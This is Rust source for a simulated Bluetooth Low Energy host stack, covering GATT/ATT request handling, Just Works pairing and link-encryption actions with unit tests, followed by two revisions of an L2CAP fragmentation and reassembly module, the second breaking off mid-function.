    /// A notification arrived.
    Notification {
        /// Source handle.
        handle: u16,
        /// The value (pool-borrowed on the steady-state path).
        value: PooledBuf,
    },
    /// A Read By Group Type response (service discovery data).
    ServicesDiscovered {
        /// Entry length.
        entry_len: u8,
        /// Raw concatenated entries.
        data: Vec<u8>,
    },
    /// A Read By Type response (characteristic discovery data).
    CharacteristicsDiscovered {
        /// Entry length.
        entry_len: u8,
        /// Raw concatenated entries.
        data: Vec<u8>,
    },
    /// The ATT MTU was negotiated.
    MtuExchanged(u16),
    /// Pairing finished; both sides hold this key.
    PairingComplete {
        /// The derived Short-Term Key (used as the link key).
        stk: [u8; 16],
    },
    /// Pairing failed.
    PairingFailed(u8),
    /// Link encryption switched on or off.
    EncryptionChanged(bool),
}

/// A request from the host stack to the Link Layer that only the device
/// (which owns the `LinkLayer`) can execute.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum SecurityAction {
    /// Start the LL encryption procedure with this key.
    StartEncryption {
        /// The key (STK or LTK).
        key: [u8; 16],
        /// `Rand` identifier.
        rand: [u8; 8],
        /// `EDIV` identifier.
        ediv: u16,
    },
}

/// The host stack: GATT server + ATT client + SMP over L2CAP.
///
/// Wire it to a [`ble_link::LinkLayer`] by passing it as the delegate to
/// `LinkLayer::handle`; drive it from the application through the `read` /
/// `write` / `notify` methods and by draining [`HostStack::poll_event`].
#[derive(Debug)]
pub struct HostStack {
    local_addr: DeviceAddress,
    server: GattServer,
    reassembler: Reassembler,
    ll_out: VecDeque<(Llid, PooledBuf)>,
    pool: PacketPool,
    pool_client: usize,
    tx_sdu: Vec<u8>,
    rx_sdu: Vec<u8>,
    events: VecDeque<HostEvent>,
    actions: VecDeque<SecurityAction>,
    smp_initiator: Option<SmpInitiator>,
    smp_responder: Option<SmpResponder>,
    bonded_key: Option<[u8; 16]>,
    role: Option<Role>,
    peer: Option<DeviceAddress>,
    rng: SimRng,
    encrypted: bool,
}

impl HostStack {
    /// Creates a stack around a GATT server, with a private
    /// [`PacketPool::default_for_host`] pool. Multi-connection owners share
    /// one pool across stacks via [`HostStack::set_pool`].
    pub fn new(local_addr: DeviceAddress, server: GattServer, rng: SimRng) -> Self {
        HostStack {
            local_addr,
            server,
            reassembler: Reassembler::new(),
            ll_out: VecDeque::new(),
            pool: PacketPool::default_for_host(),
            pool_client: 0,
            tx_sdu: Vec::new(),
            rx_sdu: Vec::new(),
            events: VecDeque::new(),
            actions: VecDeque::new(),
            smp_initiator: None,
            smp_responder: None,
            bonded_key: None,
            role: None,
            peer: None,
            rng,
            encrypted: false,
        }
    }

    /// Replaces the buffer pool and this stack's client index within it.
    /// A multi-connection Central calls this once per slot so every stack
    /// draws from one shared, QoS-arbitrated pool.
    ///
    /// Call before traffic flows: buffers already queued stay with their
    /// original pool (they return there on drop), so switching mid-stream
    /// is safe but mixes accounting.
    pub fn set_pool(&mut self, pool: PacketPool, client: usize) {
        self.pool = pool;
        self.pool_client = client;
    }

    /// The buffer pool this stack draws from.
    pub fn pool(&self) -> &PacketPool {
        &self.pool
    }

    /// The GATT server.
    pub fn server(&self) -> &GattServer {
        &self.server
    }

    /// Mutable access to the GATT server (e.g. `set_value`).
    pub fn server_mut(&mut self) -> &mut GattServer {
        &mut self.server
    }

    /// Pops the next application event.
    pub fn poll_event(&mut self) -> Option<HostEvent> {
        self.events.pop_front()
    }

    /// Pops the next pending Link-Layer action.
    pub fn take_action(&mut self) -> Option<SecurityAction> {
        self.actions.pop_front()
    }

    /// Whether link encryption is currently active.
    pub fn is_encrypted(&self) -> bool {
        self.encrypted
    }

    /// Our current role, if connected.
    pub fn role(&self) -> Option<Role> {
        self.role
    }

    /// Stores a bonded key (serves `ltk_lookup` and re-encryption).
    pub fn set_bonded_key(&mut self, key: [u8; 16]) {
        self.bonded_key = Some(key);
    }

    /// The bonded key, if any.
    pub fn bonded_key(&self) -> Option<[u8; 16]> {
        self.bonded_key
    }

    // ----- client operations ------------------------------------------------

    /// Sends an ATT Read Request.
    pub fn read(&mut self, handle: u16) {
        self.send_att(&AttPdu::ReadRequest { handle });
    }

    /// Sends an ATT Write Request (acknowledged).
    pub fn write(&mut self, handle: u16, value: Vec<u8>) {
        self.send_att(&AttPdu::WriteRequest { handle, value });
    }

    /// Sends an ATT Write Command (unacknowledged). This is a steady-state
    /// fast path: the PDU is encoded into a reused scratch buffer and
    /// queued in pool-borrowed fragments — no heap allocation.
    pub fn write_command(&mut self, handle: u16, value: &[u8]) {
        self.send_handle_value(att::opcode::WRITE_COMMAND, handle, value);
    }

    /// Sends a Handle Value Notification (server push). Steady-state fast
    /// path like [`HostStack::write_command`].
    pub fn notify(&mut self, handle: u16, value: &[u8]) {
        self.send_handle_value(att::opcode::NOTIFICATION, handle, value);
    }

    fn send_handle_value(&mut self, opcode: u8, handle: u16, value: &[u8]) {
        let mut sdu = std::mem::take(&mut self.tx_sdu);
        sdu.clear();
        att::encode_handle_value_into(opcode, handle, value, &mut sdu);
        self.send_sdu(CID_ATT, &sdu);
        self.tx_sdu = sdu;
    }

    /// Starts primary service discovery.
    pub fn discover_services(&mut self) {
        self.send_att(&AttPdu::ReadByGroupTypeRequest {
            start: 1,
            end: 0xFFFF,
            group_type: Uuid::PRIMARY_SERVICE,
        });
    }

    /// Discovers characteristics of a given type (e.g. Device Name).
    pub fn read_by_type(&mut self, attribute_type: Uuid) {
        self.send_att(&AttPdu::ReadByTypeRequest {
            start: 1,
            end: 0xFFFF,
            attribute_type,
        });
    }

    /// Initiates an MTU exchange.
    pub fn exchange_mtu(&mut self, mtu: u16) {
        self.send_att(&AttPdu::ExchangeMtuRequest { mtu });
    }

    /// Master side: starts Just Works pairing. After success the stack
    /// emits [`SecurityAction::StartEncryption`] automatically.
    ///
    /// # Panics
    ///
    /// Panics if not connected as master.
    pub fn start_pairing(&mut self) {
        assert_eq!(
            self.role,
            Some(Role::Master),
            "pairing initiator must be master"
        );
        let ctx = self.smp_ctx().expect("connected");
        let (initiator, first) = SmpInitiator::start(ctx, &mut self.rng);
        self.smp_initiator = Some(initiator);
        self.send_smp(&first);
    }

    /// Master side: (re-)encrypts the link with the bonded key.
    ///
    /// # Panics
    ///
    /// Panics if no key is bonded.
    pub fn encrypt_with_bonded_key(&mut self) {
        let key = self.bonded_key.expect("no bonded key");
        self.actions.push_back(SecurityAction::StartEncryption {
            key,
            rand: [0; 8],
            ediv: 0,
        });
    }

    fn smp_ctx(&self) -> Option<SmpContext> {
        let peer = self.peer?;
        let (ia, iat, ra, rat) = match self.role? {
            Role::Master => (
                self.local_addr.octets,
                self.local_addr.kind.bit(),
                peer.octets,
                peer.kind.bit(),
            ),
            Role::Slave => (
                peer.octets,
                peer.kind.bit(),
                self.local_addr.octets,
                self.local_addr.kind.bit(),
            ),
        };
        Some(SmpContext { ia, iat, ra, rat })
    }

    /// Fragments one SDU into pool-borrowed LL payloads on the TX queue.
    fn send_sdu(&mut self, cid: u16, sdu: &[u8]) {
        let pool = &self.pool;
        let client = self.pool_client;
        let ll_out = &mut self.ll_out;
        l2cap::fragment_into(cid, sdu, DEFAULT_LL_PAYLOAD, |llid, prefix, data| {
            let mut buf = pool.alloc_or_heap(client);
            buf.extend_from_slice(prefix);
            buf.extend_from_slice(data);
            ll_out.push_back((llid, buf));
        });
    }

    fn send_att(&mut self, pdu: &AttPdu) {
        let bytes = pdu.to_bytes();
        self.send_sdu(CID_ATT, &bytes);
    }

    fn send_smp(&mut self, pdu: &SmpPdu) {
        let bytes = pdu.to_bytes();
        self.send_sdu(CID_SMP, &bytes);
    }

    fn on_att_sdu(&mut self, sdu: &[u8]) {
        // Steady-state fast paths: the two unacknowledged opcodes are
        // parsed borrowed and their values land in pool buffers, so the
        // hot RX path never materialises an `AttPdu`.
        if let Some((op, handle, value)) = att::parse_handle_value(sdu) {
            if op == att::opcode::WRITE_COMMAND {
                if self.server.apply_write_command(handle, value) {
                    let mut buf = self.pool.alloc_or_heap(self.pool_client);
                    buf.extend_from_slice(value);
                    self.events.push_back(HostEvent::Written {
                        handle,
                        value: buf,
                        acknowledged: false,
                    });
                }
            } else {
                let mut buf = self.pool.alloc_or_heap(self.pool_client);
                buf.extend_from_slice(value);
                self.events
                    .push_back(HostEvent::Notification { handle, value: buf });
            }
            return;
        }
        let Some(pdu) = AttPdu::from_bytes(sdu) else {
            return;
        };
        match &pdu {
            // Server-side requests.
            AttPdu::ReadRequest { .. }
            | AttPdu::WriteRequest { .. }
            | AttPdu::WriteCommand { .. }
            | AttPdu::ReadByGroupTypeRequest { .. }
            | AttPdu::ReadByTypeRequest { .. }
            | AttPdu::ExchangeMtuRequest { .. } => {
                let (response, gatt_events) = self.server.handle_att(&pdu);
                if let Some(rsp) = response {
                    self.send_att(&rsp);
                }
                for ev in gatt_events {
                    self.events.push_back(match ev {
                        GattEvent::Written {
                            handle,
                            value,
                            acknowledged,
                        } => HostEvent::Written {
                            handle,
                            value: value.into(),
                            acknowledged,
                        },
                        GattEvent::Read { handle } => HostEvent::ReadByPeer { handle },
                    });
                }
            }
            // Client-side responses.
            AttPdu::ReadResponse { value } => self.events.push_back(HostEvent::ReadResponse {
                value: value.clone(),
            }),
            AttPdu::WriteResponse => self.events.push_back(HostEvent::WriteConfirmed),
            AttPdu::ErrorResponse {
                request_opcode,
                handle,
                code,
            } => self.events.push_back(HostEvent::AttError {
                request_opcode: *request_opcode,
                handle: *handle,
                code: *code,
            }),
            AttPdu::Notification { handle, value } => {
                self.events.push_back(HostEvent::Notification {
                    handle: *handle,
                    value: value.clone().into(),
                })
            }
            AttPdu::ReadByGroupTypeResponse { entry_len, data } => {
                self.events.push_back(HostEvent::ServicesDiscovered {
                    entry_len: *entry_len,
                    data: data.clone(),
                })
            }
            AttPdu::ReadByTypeResponse { entry_len, data } => {
                self.events.push_back(HostEvent::CharacteristicsDiscovered {
                    entry_len: *entry_len,
                    data: data.clone(),
                })
            }
            AttPdu::ExchangeMtuResponse { mtu } => {
                self.events.push_back(HostEvent::MtuExchanged(*mtu))
            }
            AttPdu::Indication { handle, value } => {
                self.events.push_back(HostEvent::Notification {
                    handle: *handle,
                    value: value.clone().into(),
                });
                self.send_att(&AttPdu::Confirmation);
            }
            AttPdu::Confirmation => {}
        }
    }

    fn on_smp_sdu(&mut self, sdu: &[u8]) {
        let Some(pdu) = SmpPdu::from_bytes(sdu) else {
            return;
        };
        // Lazily create the responder when a Pairing Request arrives.
        if matches!(pdu, SmpPdu::PairingRequest { .. })
            && self.role == Some(Role::Slave)
            && self.smp_responder.is_none()
        {
            let ctx = self.smp_ctx().expect("connected");
            self.smp_responder = Some(SmpResponder::new(ctx, &mut self.rng));
        }
        let (reply, outcome) = if let Some(init) = self.smp_initiator.as_mut() {
            init.on_pdu(&pdu)
        } else if let Some(resp) = self.smp_responder.as_mut() {
            resp.on_pdu(&pdu)
        } else {
            (None, None)
        };
        if let Some(reply) = reply {
            self.send_smp(&reply);
        }
        match outcome {
            Some(SmpOutcome::Stk(stk)) => {
                self.bonded_key = Some(stk);
                self.events.push_back(HostEvent::PairingComplete { stk });
                if self.role == Some(Role::Master) {
                    self.actions.push_back(SecurityAction::StartEncryption {
                        key: stk,
                        rand: [0; 8],
                        ediv: 0,
                    });
                }
                self.smp_initiator = None;
                self.smp_responder = None;
            }
            Some(SmpOutcome::Failed(reason)) => {
                self.events.push_back(HostEvent::PairingFailed(reason));
                self.smp_initiator = None;
                self.smp_responder = None;
            }
            None => {}
        }
    }
}

impl LinkLayerDelegate for HostStack {
    fn on_connected(
        &mut self,
        role: Role,
        _params: &ble_link::ConnectionParams,
        peer: DeviceAddress,
    ) {
        self.role = Some(role);
        self.peer = Some(peer);
        self.encrypted = false;
        self.reassembler.reset();
        self.ll_out.clear();
        self.events.push_back(HostEvent::Connected { role, peer });
    }

    fn on_disconnected(&mut self, reason: u8) {
        self.role = None;
        self.peer = None;
        self.encrypted = false;
        self.smp_initiator = None;
        self.smp_responder = None;
        self.reassembler.reset();
        self.ll_out.clear();
        self.events.push_back(HostEvent::Disconnected { reason });
    }

    fn on_data(&mut self, llid: Llid, payload: &[u8]) {
        // `rx_sdu` is a reused scratch buffer: take it out so the
        // reassembler can fill it while the dispatch below borrows `self`.
        let mut sdu = std::mem::take(&mut self.rx_sdu);
        if let Some(cid) = self.reassembler.push_into(llid, payload, &mut sdu) {
            match cid {
                CID_ATT => self.on_att_sdu(&sdu),
                CID_SMP => self.on_smp_sdu(&sdu),
                _ => {}
            }
        }
        self.rx_sdu = sdu;
    }

    fn poll_outgoing(&mut self, out: &mut Vec<u8>) -> Option<Llid> {
        let (llid, buf) = self.ll_out.pop_front()?;
        out.clear();
        out.extend_from_slice(&buf);
        Some(llid) // `buf` drops here and returns to the pool
    }

    fn has_outgoing(&self) -> bool {
        !self.ll_out.is_empty()
    }

    fn on_encryption_change(&mut self, enabled: bool) {
        self.encrypted = enabled;
        self.events.push_back(HostEvent::EncryptionChanged(enabled));
    }

    fn ltk_lookup(&mut self, _rand: &[u8; 8], _ediv: u16) -> Option<[u8; 16]> {
        self.bonded_key
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::gatt::props;
    use ble_link::{AddressType, ConnectionParams};

    fn stack(addr_seed: u8, seed: u64) -> HostStack {
        let mut server = GattServer::new();
        server
            .service(Uuid::GAP_SERVICE)
            .characteristic(Uuid::DEVICE_NAME, props::READ, b"Dev".to_vec())
            .finish();
        HostStack::new(
            DeviceAddress::new([addr_seed; 6], AddressType::Public),
            server,
            SimRng::seed_from(seed),
        )
    }

    fn connect_pair(master: &mut HostStack, slave: &mut HostStack) {
        let params = ConnectionParams::typical(&mut SimRng::seed_from(9), 36);
        master.on_connected(
            Role::Master,
            &params,
            DeviceAddress::new([0xB0; 6], AddressType::Public),
        );
        slave.on_connected(
            Role::Slave,
            &params,
            DeviceAddress::new([0xA0; 6], AddressType::Public),
        );
    }

    /// Shuttles LL PDUs between two stacks until both are idle.
    fn pump(a: &mut HostStack, b: &mut HostStack) {
        let mut p = Vec::new();
        for _ in 0..100 {
            let mut progressed = false;
            while let Some(llid) = a.poll_outgoing(&mut p) {
                b.on_data(llid, &p);
                progressed = true;
            }
            while let Some(llid) = b.poll_outgoing(&mut p) {
                a.on_data(llid, &p);
                progressed = true;
            }
            if !progressed {
                break;
            }
        }
    }

    #[test]
    fn read_roundtrip_through_both_stacks() {
        let mut master = stack(0xA0, 1);
        let mut slave = stack(0xB0, 2);
        connect_pair(&mut master, &mut slave);
        let name_handle = slave.server().handle_of(Uuid::DEVICE_NAME).unwrap();
        master.read(name_handle);
        pump(&mut master, &mut slave);
        let events: Vec<HostEvent> = std::iter::from_fn(|| master.poll_event()).collect();
        assert!(events.contains(&HostEvent::ReadResponse {
            value: b"Dev".to_vec()
        }));
        let slave_events: Vec<HostEvent> = std::iter::from_fn(|| slave.poll_event()).collect();
        assert!(slave_events.contains(&HostEvent::ReadByPeer {
            handle: name_handle
        }));
    }

    #[test]
    fn write_roundtrip_and_event() {
        let mut master = stack(0xA0, 3);
        let mut slave = stack(0xB0, 4);
        // Give the slave a writable characteristic.
        let control = slave
            .server_mut()
            .service(Uuid::short(0xFFE0))
            .characteristic(Uuid::short(0xFFE1), props::WRITE, vec![0])
            .finish();
        connect_pair(&mut master, &mut slave);
        master.write(control, vec![0x55, 0x10]);
        pump(&mut master, &mut slave);
        let m: Vec<_> = std::iter::from_fn(|| master.poll_event()).collect();
        let s: Vec<_> = std::iter::from_fn(|| slave.poll_event()).collect();
        assert!(m.contains(&HostEvent::WriteConfirmed));
        assert!(s.contains(&HostEvent::Written {
            handle: control,
            value: vec![0x55, 0x10].into(),
            acknowledged: true
        }));
    }

    #[test]
    fn service_discovery_roundtrip() {
        let mut master = stack(0xA0, 5);
        let mut slave = stack(0xB0, 6);
        connect_pair(&mut master, &mut slave);
        master.discover_services();
        pump(&mut master, &mut slave);
        let m: Vec<_> = std::iter::from_fn(|| master.poll_event()).collect();
        assert!(m
            .iter()
            .any(|e| matches!(e, HostEvent::ServicesDiscovered { .. })));
    }

    #[test]
    fn pairing_over_the_stacks_yields_matching_keys_and_action() {
        let mut master = stack(0xA0, 7);
        let mut slave = stack(0xB0, 8);
        connect_pair(&mut master, &mut slave);
        master.start_pairing();
        pump(&mut master, &mut slave);
        let mk = master.bonded_key().expect("master key");
        let sk = slave.bonded_key().expect("slave key");
        assert_eq!(mk, sk);
        let action = master.take_action().expect("encryption action queued");
        assert!(matches!(action, SecurityAction::StartEncryption { key, .. } if key == mk));
        assert!(slave.take_action().is_none(), "slave does not initiate");
    }

    #[test]
    fn notification_path() {
        let mut master = stack(0xA0, 9);
        let mut slave = stack(0xB0, 10);
        connect_pair(&mut master, &mut slave);
        slave.notify(0x0042, b"SMS!");
        pump(&mut master, &mut slave);
        let m: Vec<_> = std::iter::from_fn(|| master.poll_event()).collect();
        assert!(m.contains(&HostEvent::Notification {
            handle: 0x0042,
            value: b"SMS!".to_vec().into()
        }));
    }

    #[test]
    fn write_command_fast_path_applies_and_recycles_pool_buffers() {
        let mut master = stack(0xA0, 21);
        let mut slave = stack(0xB0, 22);
        let control = slave
            .server_mut()
            .service(Uuid::short(0xFFE0))
            .characteristic(Uuid::short(0xFFE1), props::WRITE, vec![0])
            .finish();
        connect_pair(&mut master, &mut slave);
        let _ = master.poll_event();
        let _ = slave.poll_event();
        let idle_free = master.pool().stats().free;
        for i in 0..10u8 {
            master.write_command(control, &[0x40, i]);
            pump(&mut master, &mut slave);
            assert_eq!(
                slave.poll_event(),
                Some(HostEvent::Written {
                    handle: control,
                    value: vec![0x40, i].into(),
                    acknowledged: false
                })
            );
            assert_eq!(slave.server().value(control), Some(&[0x40, i][..]));
        }
        // Every fragment buffer went back: the pool is full again and no
        // allocation was ever denied.
        assert_eq!(master.pool().stats().free, idle_free);
        assert_eq!(master.pool().stats().total_denials(), 0);
        assert_eq!(slave.pool().stats().total_denials(), 0);
    }

    #[test]
    fn disconnect_clears_transient_state_but_keeps_bond() {
        let mut master = stack(0xA0, 11);
        let mut slave = stack(0xB0, 12);
        connect_pair(&mut master, &mut slave);
        master.start_pairing();
        pump(&mut master, &mut slave);
        let key = master.bonded_key().unwrap();
        master.on_disconnected(0x13);
        assert!(master.bonded_key() == Some(key), "bond survives disconnect");
        assert!(!master.is_encrypted());
        assert!(master.role().is_none());
    }

    #[test]
    fn mtu_exchange_event() {
        let mut master = stack(0xA0, 13);
        let mut slave = stack(0xB0, 14);
        connect_pair(&mut master, &mut slave);
        master.exchange_mtu(185);
        pump(&mut master, &mut slave);
        let m: Vec<_> = std::iter::from_fn(|| master.poll_event()).collect();
        assert!(m.contains(&HostEvent::MtuExchanged(185)));
    }

    #[test]
    fn garbage_sdu_is_ignored() {
        let mut slave = stack(0xB0, 15);
        slave.on_connected(
            Role::Slave,
            &ConnectionParams::typical(&mut SimRng::seed_from(1), 36),
            DeviceAddress::new([0xA0; 6], AddressType::Public),
        );
        // Garbage ATT opcode over a well-formed L2CAP frame.
        for (llid, p) in l2cap::fragment(CID_ATT, &[0xFF, 1, 2, 3], DEFAULT_LL_PAYLOAD) {
            slave.on_data(llid, &p);
        }
        let _ = slave.poll_event(); // Connected event
        assert!(slave.poll_event().is_none());
        assert!(!slave.has_outgoing());
    }
}
