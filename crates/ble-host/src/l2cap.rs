//! L2CAP basic-mode fragmentation over LE fixed channels.
//!
//! Every host SDU is prefixed with a 4-byte header (2-byte SDU length,
//! 2-byte channel id) and cut into Link-Layer payloads: the first fragment
//! travels in an LLID `10` (start) PDU, continuations in LLID `01` PDUs.

use ble_link::Llid;

/// The ATT fixed channel.
pub const CID_ATT: u16 = 0x0004;
/// The LE signalling fixed channel.
pub const CID_SIGNALING: u16 = 0x0005;
/// The Security Manager fixed channel.
pub const CID_SMP: u16 = 0x0006;

/// Default Link-Layer payload budget per fragment (BLE 4.0 data length).
pub const DEFAULT_LL_PAYLOAD: usize = 27;

/// Splits one `(cid, sdu)` into LL fragments ready for transmission.
///
/// # Example
///
/// ```
/// use ble_host::l2cap::{fragment, reassemble_iter, CID_ATT};
/// let frags = fragment(CID_ATT, &[0x0A, 0x03, 0x00], 27);
/// assert_eq!(frags.len(), 1); // small SDU: single start fragment
/// ```
pub fn fragment(cid: u16, sdu: &[u8], ll_payload: usize) -> Vec<(Llid, Vec<u8>)> {
    assert!(
        ll_payload >= 5,
        "LL payload must fit the L2CAP header plus data"
    );
    let mut framed = Vec::with_capacity(4 + sdu.len());
    framed.extend_from_slice(&(sdu.len() as u16).to_le_bytes());
    framed.extend_from_slice(&cid.to_le_bytes());
    framed.extend_from_slice(sdu);

    let mut out = Vec::new();
    let mut offset = 0;
    let mut first = true;
    while offset < framed.len() {
        let take = (framed.len() - offset).min(ll_payload);
        let llid = if first {
            Llid::StartOrComplete
        } else {
            Llid::ContinuationOrEmpty
        };
        out.push((llid, framed[offset..offset + take].to_vec()));
        offset += take;
        first = false;
    }
    out
}

/// Convenience: feed fragments back through a fresh [`Reassembler`].
pub fn reassemble_iter<'a>(
    fragments: impl IntoIterator<Item = &'a (Llid, Vec<u8>)>,
) -> Vec<(u16, Vec<u8>)> {
    let mut r = Reassembler::new();
    let mut out = Vec::new();
    for (llid, payload) in fragments {
        out.extend(r.push(*llid, payload));
    }
    out
}

/// Stateful L2CAP recombination: feed LL data PDUs, collect complete SDUs.
#[derive(Debug, Default)]
pub struct Reassembler {
    buffer: Vec<u8>,
    expected: Option<usize>,
}

impl Reassembler {
    /// Creates an empty reassembler.
    pub fn new() -> Self {
        Reassembler::default()
    }

    /// Feeds one LL data PDU; returns any completed `(cid, sdu)`.
    ///
    /// Malformed sequences (continuation without start, overflow) reset the
    /// reassembly state and are dropped — the resilience a real stack needs
    /// against the corrupted fragments an injection attack can leave behind.
    pub fn push(&mut self, llid: Llid, payload: &[u8]) -> Option<(u16, Vec<u8>)> {
        match llid {
            Llid::Control => return None,
            Llid::StartOrComplete => {
                self.buffer.clear();
                self.buffer.extend_from_slice(payload);
                self.expected = None;
            }
            Llid::ContinuationOrEmpty => {
                if payload.is_empty() {
                    return None; // empty keep-alive PDU
                }
                if self.buffer.is_empty() {
                    return None; // continuation without start: drop
                }
                self.buffer.extend_from_slice(payload);
            }
        }
        // Parse the header once available.
        if self.expected.is_none() && self.buffer.len() >= 4 {
            let len = u16::from_le_bytes([self.buffer[0], self.buffer[1]]) as usize;
            self.expected = Some(len + 4);
        }
        if let Some(total) = self.expected {
            if self.buffer.len() >= total {
                let cid = u16::from_le_bytes([self.buffer[2], self.buffer[3]]);
                let sdu = self.buffer[4..total].to_vec();
                self.buffer.clear();
                self.expected = None;
                return Some((cid, sdu));
            }
        }
        None
    }

    /// Drops any partial reassembly in progress.
    pub fn reset(&mut self) {
        self.buffer.clear();
        self.expected = None;
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn small_sdu_single_fragment_roundtrip() {
        let frags = fragment(CID_ATT, &[1, 2, 3], DEFAULT_LL_PAYLOAD);
        assert_eq!(frags.len(), 1);
        assert_eq!(frags[0].0, Llid::StartOrComplete);
        let sdus = reassemble_iter(&frags);
        assert_eq!(sdus, vec![(CID_ATT, vec![1, 2, 3])]);
    }

    #[test]
    fn large_sdu_fragments_and_reassembles() {
        let sdu: Vec<u8> = (0..200).map(|i| i as u8).collect();
        let frags = fragment(CID_SMP, &sdu, DEFAULT_LL_PAYLOAD);
        assert!(frags.len() > 1);
        assert_eq!(frags[0].0, Llid::StartOrComplete);
        assert!(frags[1..]
            .iter()
            .all(|(l, _)| *l == Llid::ContinuationOrEmpty));
        // Total bytes = SDU + 4-byte header.
        let total: usize = frags.iter().map(|(_, p)| p.len()).sum();
        assert_eq!(total, sdu.len() + 4);
        assert_eq!(reassemble_iter(&frags), vec![(CID_SMP, sdu)]);
    }

    #[test]
    fn back_to_back_sdus() {
        let mut r = Reassembler::new();
        let mut out = Vec::new();
        for sdu in [vec![9u8; 40], vec![7u8; 3], vec![1u8]] {
            for (llid, p) in fragment(CID_ATT, &sdu, 27) {
                out.extend(r.push(llid, &p));
            }
        }
        assert_eq!(out.len(), 3);
        assert_eq!(out[0].1.len(), 40);
        assert_eq!(out[2].1, vec![1]);
    }

    #[test]
    fn empty_pdus_and_orphan_continuations_ignored() {
        let mut r = Reassembler::new();
        assert_eq!(r.push(Llid::ContinuationOrEmpty, &[]), None);
        assert_eq!(r.push(Llid::ContinuationOrEmpty, &[1, 2, 3]), None);
        // A proper SDU still works afterwards.
        let frags = fragment(CID_ATT, &[5], 27);
        assert_eq!(r.push(frags[0].0, &frags[0].1), Some((CID_ATT, vec![5])));
    }

    #[test]
    fn new_start_discards_partial() {
        let mut r = Reassembler::new();
        let big: Vec<u8> = vec![1; 50];
        let frags = fragment(CID_ATT, &big, 27);
        assert!(r.push(frags[0].0, &frags[0].1).is_none());
        // New start interrupts: old partial dropped, new SDU completes.
        let fresh = fragment(CID_ATT, &[9, 9], 27);
        assert_eq!(r.push(fresh[0].0, &fresh[0].1), Some((CID_ATT, vec![9, 9])));
    }

    #[test]
    fn control_pdus_pass_through_unharmed() {
        let mut r = Reassembler::new();
        let big: Vec<u8> = vec![1; 50];
        let frags = fragment(CID_ATT, &big, 27);
        r.push(frags[0].0, &frags[0].1);
        assert_eq!(r.push(Llid::Control, &[0x02, 0x13]), None);
        // Partial reassembly not corrupted by the interleaved control PDU.
        assert_eq!(r.push(frags[1].0, &frags[1].1), Some((CID_ATT, big)));
    }

    #[test]
    fn zero_length_sdu() {
        let frags = fragment(CID_ATT, &[], 27);
        assert_eq!(reassemble_iter(&frags), vec![(CID_ATT, vec![])]);
    }

    #[test]
    #[should_panic(expected = "payload must fit")]
    fn tiny_ll_payload_rejected() {
        let _ = fragment(CID_ATT, &[1], 4);
    }
}
