//! L2CAP basic-mode fragmentation over LE fixed channels.
//!
//! Every host SDU is prefixed with a 4-byte header (2-byte SDU length,
//! 2-byte channel id) and cut into Link-Layer payloads: the first fragment
//! travels in an LLID `10` (start) PDU, continuations in LLID `01` PDUs.

use ble_link::Llid;

/// The ATT fixed channel.
pub const CID_ATT: u16 = 0x0004;
/// The LE signalling fixed channel.
pub const CID_SIGNALING: u16 = 0x0005;
/// The Security Manager fixed channel.
pub const CID_SMP: u16 = 0x0006;

/// Default Link-Layer payload budget per fragment (BLE 4.0 data length).
pub const DEFAULT_LL_PAYLOAD: usize = 27;

/// Splits one `(cid, sdu)` into LL fragments ready for transmission.
///
/// # Example
///
/// ```
/// use ble_host::l2cap::{fragment, reassemble_iter, CID_ATT};
/// let frags = fragment(CID_ATT, &[0x0A, 0x03, 0x00], 27);
/// assert_eq!(frags.len(), 1); // small SDU: single start fragment
/// ```
pub fn fragment(cid: u16, sdu: &[u8], ll_payload: usize) -> Vec<(Llid, Vec<u8>)> {
    let mut out = Vec::new();
    fragment_into(cid, sdu, ll_payload, |llid, prefix, data| {
        let mut frag = Vec::with_capacity(prefix.len() + data.len());
        frag.extend_from_slice(prefix);
        frag.extend_from_slice(data);
        out.push((llid, frag));
    });
    out
}

/// Zero-allocation variant of [`fragment`]: invokes `emit` once per
/// fragment with `(llid, prefix, data)` where the fragment bytes are
/// `prefix ++ data`.
///
/// The 4-byte L2CAP header lives on the stack, so only the first fragment
/// carries a non-empty `prefix` (the minimum `ll_payload` of 5 guarantees
/// the header never splits across fragments). Callers copy both slices into
/// their own buffer — typically a pooled one — and no heap allocation
/// happens here. Byte-for-byte identical to [`fragment`].
pub fn fragment_into(
    cid: u16,
    sdu: &[u8],
    ll_payload: usize,
    mut emit: impl FnMut(Llid, &[u8], &[u8]),
) {
    assert!(
        ll_payload >= 5,
        "LL payload must fit the L2CAP header plus data"
    );
    let len_bytes = (sdu.len() as u16).to_le_bytes();
    let cid_bytes = cid.to_le_bytes();
    let header = [len_bytes[0], len_bytes[1], cid_bytes[0], cid_bytes[1]];
    let first_data = (ll_payload - header.len()).min(sdu.len());
    emit(Llid::StartOrComplete, &header, &sdu[..first_data]);
    let mut offset = first_data;
    while offset < sdu.len() {
        let take = (sdu.len() - offset).min(ll_payload);
        emit(Llid::ContinuationOrEmpty, &[], &sdu[offset..offset + take]);
        offset += take;
    }
}

/// Convenience: feed fragments back through a fresh [`Reassembler`].
pub fn reassemble_iter<'a>(
    fragments: impl IntoIterator<Item = &'a (Llid, Vec<u8>)>,
) -> Vec<(u16, Vec<u8>)> {
    let mut r = Reassembler::new();
    let mut out = Vec::new();
    for (llid, payload) in fragments {
        out.extend(r.push(*llid, payload));
    }
    out
}

/// Stateful L2CAP recombination: feed LL data PDUs, collect complete SDUs.
#[derive(Debug, Default)]
pub struct Reassembler {
    buffer: Vec<u8>,
    expected: Option<usize>,
}

impl Reassembler {
    /// Creates an empty reassembler.
    pub fn new() -> Self {
        Reassembler::default()
    }

    /// Feeds one LL data PDU; returns any completed `(cid, sdu)`.
    ///
    /// Malformed sequences (continuation without start, overflow) reset the
    /// reassembly state and are dropped — the resilience a real stack needs
    /// against the corrupted fragments an injection attack can leave behind.
    pub fn push(&mut self, llid: Llid, payload: &[u8]) -> Option<(u16, Vec<u8>)> {
        let mut sdu = Vec::new();
        self.push_into(llid, payload, &mut sdu)
            .map(|cid| (cid, sdu))
    }

    /// Zero-allocation variant of [`Reassembler::push`]: on SDU completion
    /// the payload replaces `out`'s contents (cleared first) and the channel
    /// id is returned. Feeding a reusable scratch buffer keeps the
    /// steady-state RX path off the heap.
    pub fn push_into(&mut self, llid: Llid, payload: &[u8], out: &mut Vec<u8>) -> Option<u16> {
        match llid {
            Llid::Control => return None,
            Llid::StartOrComplete => {
                self.buffer.clear();
                self.buffer.extend_from_slice(payload);
                self.expected = None;
            }
            Llid::ContinuationOrEmpty => {
                if payload.is_empty() {
